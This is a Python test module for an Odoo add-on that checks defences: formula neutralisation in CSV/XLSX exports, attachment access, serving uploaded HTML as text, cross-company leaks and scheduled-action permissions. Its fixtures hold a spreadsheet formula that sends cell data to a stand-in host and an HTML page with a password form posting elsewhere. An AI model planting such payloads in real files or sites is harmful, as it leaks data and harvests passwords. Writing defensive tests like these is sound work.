import io
import json
import zipfile

from odoo import fields, http
from odoo.exceptions import AccessError, UserError
from odoo.fields import Command
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from ..common import AgencyCase
from ..rpc import RpcCase

FORMULA, LINK = '=HYPERLINK("http://example.com/?"&A1)', r'external:\\example.com\x.xlsx'
PAGE = b'<html><form action="https://example.com"><input name="password"/></form></html>'


@tagged('post_install', '-at_install')
class TestOdooDoors(AgencyCase, RpcCase, HttpCase):
    """What Odoo's own doors would give to whoever has a login, of our records."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.other = cls.env['res.company'].create({'name': "Cơ quan kín"})
        cls.event = cls.as_user('policy_staff', 'dan_van.event').create({'subject': FORMULA, 'note': LINK})

    def exported(self, kind, **asked):
        self.users['policy_staff'].group_ids |= self.env.ref('base.group_allow_export')
        self.authenticate(self.users['policy_staff'].login, self.users['policy_staff'].login)
        answer = self.url_open(f'/web/export/{kind}', data={'csrf_token': http.Request.csrf_token(self), 'data': json.dumps({
            'model': 'dan_van.event', 'ids': self.event.ids, 'domain': [], 'groupby': [], 'import_compat': False,
            'fields': [{'name': name, 'label': name, 'type': 'char'} for name in ('subject', 'note')], **asked})})
        self.assertEqual(answer.status_code, 200, answer.text)
        return answer.content

    def test_no_text_calculates_in_a_workbook(self):
        """Who opens an exported list, often the leader, would run what somebody else has written."""
        for asked in ({}, {'groupby': ['subject']}):
            with self.subTest(asked), zipfile.ZipFile(io.BytesIO(self.exported('xlsx', **asked))) as book:
                self.assertNotIn(b'<f>', book.read('xl/worksheets/sheet1.xml'))
                self.assertNotIn('xl/worksheets/_rels/sheet1.xml.rels', book.namelist())
                self.assertIn("HYPERLINK", book.read('xl/sharedStrings.xml').decode())

    def test_no_text_calculates_in_a_list(self):
        for text in (FORMULA, "@SUM(A1)", "\t=1+1", "-1+1", "+1"):
            self.event.note = text
            self.assertIn(f'"\'{text[0]}'.encode(), self.exported('csv'))

    def test_a_file_is_read_with_its_record_alone(self):
        Attachment = self.as_user('policy_staff', 'ir.attachment')
        place = {'res_model': self.event._name, 'res_id': self.event.id}
        file = Attachment.create({'name': "Ảnh.txt", 'raw': b'x', **place})
        loose = Attachment.create({'name': "Công khai.txt", 'raw': b'x', 'public': True})
        for act in (
                lambda: Attachment.create({'name': "x", 'raw': b'x', 'public': True, **place}),
                lambda: Attachment.with_context(default_public=True).create({'name': "x", 'raw': b'x', **place}),
                lambda: file.write({'public': True}), lambda: loose.write(place), lambda: file.sudo().write({'public': True}),
                lambda: Attachment.create({'name': "x", 'type': 'url', 'url': 'https://example.com', **place}),
                lambda: file.write({'type': 'url', 'url': 'https://example.com'})):
            with self.assertRaisesRegex(UserError, "read by who may"), self.env.cr.savepoint():
                act()
        self.assertTrue(loose.public)
        self.assertFalse(file.copy().public)

    def test_what_is_no_picture_is_shown_as_text(self):
        """A page with a form at the address of the agency would ask for passwords in its name."""
        file = self.as_user('policy_staff', 'ir.attachment').create({
            'name': "Ảnh.html", 'raw': PAGE, 'res_model': self.event._name, 'res_id': self.event.id})
        filed = self.env['dms.file'].search([('attachment_id', '=', file.id)])
        self.authenticate(self.users['policy_staff'].login, self.users['policy_staff'].login)
        for path in (
                f'/web/content/dms.file/{filed.id}/content/x.html', f'/web/content?model=dms.file&id={filed.id}&field=content',
                f'/web/content/{file.id}?mimetype=text/html', f'/web/content/{file.id}?mimetype=image/svg%2Bxml',
                f'/web/content?model=dms.file&id={filed.id}&field=content&mimetype=application/xhtml%2Bxml'):
            with self.subTest(path):
                answer = self.url_open(path)
                self.assertEqual((answer.content, answer.headers['Content-Type'].split(';')[0]), (PAGE, 'text/plain'))

    def test_a_message_that_waits_is_its_author_s(self):
        plan = self.new_plan()
        message = self.env['mail.scheduled.message'].with_user(self.users['office_head']).create({
            'model': plan._name, 'res_id': plan.id, 'author_id': self.users['office_head'].partner_id.id, 'body': "Xem lại mục I",
            'scheduled_date': fields.Datetime.add(fields.Datetime.now(), days=1)})
        self.assert_refused("not yours to cancel", 'office_staff', message, 'unlink')
        self.rpc('office_head', message, 'unlink')
        self.assertFalse(message.exists())

    def test_no_form_names_what_another_agency_has(self):
        unit = self.env['hr.department'].with_context(allowed_company_ids=self.other.ids).create({
            'name': "Phòng kín", 'dan_van_kind': 'division', 'company_id': self.other.id})
        person = self.env['res.partner'].create({'name': "Người kín", 'company_id': self.other.id})
        spec = {name: {'fields': {'display_name': {}}} for name in ('department_id', 'company_id')}
        for context in ({'default_department_id': unit.id}, {'default_company_id': self.other.id}):
            for model in ('dan_van.letter', 'dan_van.event', 'dan_van.plan'):
                with self.subTest(model, context=context):
                    self.assertNotRegex(str(self.rpc('policy_staff', model, 'onchange', [], {}, [], spec, **context)), "kín")
        self.assertNotRegex(str(self.rpc(
            'policy_staff', 'dan_van.letter', 'onchange', [], {'company_id': self.other.id}, [], spec)), "kín")
        for method in ('message_post', 'message_notify', 'message_subscribe'):
            with self.subTest(method):
                with self.assertRaisesRegex(UserError, "may not read") as refused:
                    getattr(self.as_user('policy_staff', self.event), method)(partner_ids=person.ids)
                self.assertNotIn("Người kín", str(refused.exception))

    def test_no_form_of_any_model_does(self):
        unit = self.env['hr.department'].with_context(allowed_company_ids=self.other.ids).create({
            'name': "Phòng kín", 'dan_van_kind': 'division', 'company_id': self.other.id})
        foreign, tried = {'hr.department': unit.id, 'res.company': self.other.id}, 0
        fields_of = [(model._name, field) for model in self.env.values() if model._name.startswith('dan_van.') and not model._abstract
                     for field in model._fields.values() if field.comodel_name in foreign and field.type in ('many2one', 'many2many')]
        for model, field in fields_of:
            value = foreign[field.comodel_name]
            value = value if field.type == 'many2one' else [Command.link(value)]
            spec = {field.name: {'fields': {'display_name': {}}}}
            for user in ('policy_staff', 'clerk', 'office_head', 'admin'):
                Model = self.as_user(user, model)
                default = Model.with_context(**{f'default_{field.name}': value})
                for ask in (lambda: default.onchange({}, [], spec), lambda: Model.onchange({field.name: value}, [], spec)):
                    try:
                        found = ask()
                    except (AccessError, UserError) as refused:
                        found = refused
                    with self.subTest(model, field=field.name, user=user):
                        self.assertNotIn("kín", str(found))
                    tried += 1
        self.assertGreater(tried, 300)

    def test_reminders_come_from_the_steps_alone(self):
        duty = self.to_state(self.new_plan(duties=['policy']), 'issued').assignment_ids[:1]
        head = self.users['policy_head']
        for name in ('turn', 'deadline', 'answer', 'digest'):
            with self.subTest(name), self.assertRaisesRegex(UserError, "not by hand"), self.env.cr.savepoint():
                self.as_user('policy_staff', duty).activity_schedule(f'dan_van.mail_activity_{name}', user_id=head.id)
            given = duty.sudo().activity_schedule(f'dan_van.mail_activity_{name}', user_id=head.id)
            with self.assertRaisesRegex(UserError, "ends by itself"), self.env.cr.savepoint():
                given.with_user(self.users['policy_staff']).write({'summary': "x"})

    @mute_logger('odoo.addons.base.models.ir_actions')
    def test_scheduled_actions_run_by_themselves(self):
        """In somebody else's hands they fail, and what they should do for all is done for what he sees."""
        portal = new_test_user(self.env, 'outside', 'base.group_portal')
        crons = self.env['ir.cron'].with_context(active_test=False).search([]).filtered(
            lambda cron: cron.get_external_id()[cron.id].startswith('dan_van.'))
        self.assertGreater(len(crons), 6)
        for cron in crons:
            action = cron.ir_actions_server_id
            for user in (portal, self.users['policy_staff'], self.users['office_head'], self.users['admin']):
                with self.subTest(cron.name, user=user.login), self.assertRaisesRegex(AccessError, "by itself"):
                    action.with_user(user).run()
        plain = self.env['ir.actions.server'].create({
            'name': "Ghi", 'state': 'code', 'model_id': self.env['ir.model']._get('dan_van.event').id, 'code': "model.search([])"})
        with self.assertRaises(AccessError):
            plain.with_user(portal).run()
        plain.with_user(self.users['policy_staff']).run()

    def test_the_schedule_itself_and_the_system_administrator_run_them(self):
        action, records = self.env.ref('dan_van.cron_turns').ir_actions_server_id, self.env['dan_van.workflow.mixin']
        for user in ('base.user_admin', 'base.user_root'):
            user = self.env.ref(user)
            action.with_user(user).sudo()._can_execute_action_on_records(records.with_user(user))


@tagged('post_install', '-at_install')
class TestExportedPetitions(AgencyCase, HttpCase):

    def test_the_log_of_the_server_names_nobody(self):
        """It says who exported how many petitions, not whom he has looked for."""
        user = self.users['policy_head']
        user.group_ids |= self.env.ref('base.group_allow_export')
        self.authenticate(user.login, user.login)
        for model, path in (('dan_van.case', 'citizen_name'), ('dan_van.event', 'case_ids.content')):
            for kind in ('csv', 'xlsx'):
                with self.subTest(model, kind=kind), self.assertLogs('odoo.addons.web.controllers.export') as logged:
                    answer = self.url_open(f'/web/export/{kind}', data={
                        'csrf_token': http.Request.csrf_token(self), 'data': json.dumps({
                            'model': model, 'ids': False, 'domain': [[path, 'ilike', "Nguyễn Thị Kín"]], 'groupby': [],
                            'import_compat': False, 'fields': [{'name': 'subject', 'label': "S", 'type': 'char'}]})})
                    self.assertEqual(answer.status_code, 200, answer.text)
                self.assertIn("exported 0", logged.output[-1])
                self.assertNotIn("Kín", str(logged.output))


@tagged('dan_van_long')
class TestLongColumns(AgencyCase):

    def test_what_is_no_subject_is_not_printed(self):
        """It kept the server for minutes, and all who print with it."""
        plan = self.new_plan()
        plan.subject = "dân vận " * 130
        with self.assertRaisesRegex(UserError, "more than 1000 letters"):
            plan._render_pdf()
        with self.assertRaisesRegex(UserError, "more than 1000 letters"):
            plan.action_submit()
